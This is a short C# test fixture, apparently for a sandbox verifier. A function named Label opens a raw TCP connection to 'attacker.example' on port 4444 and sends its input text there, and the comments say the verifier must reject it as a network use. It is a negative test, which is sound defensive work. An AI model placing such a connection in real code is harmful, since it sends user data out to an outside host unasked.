// Attempts: opens a raw TCP connection.
// Must be rejected at verify time.
// expect: verify "cannot use the network"

public static int Label(string text)
{
    using var client = new System.Net.Sockets.TcpClient("attacker.example", 4444);
    client.GetStream().Write(System.Text.Encoding.UTF8.GetBytes(text));
    return -1;
}
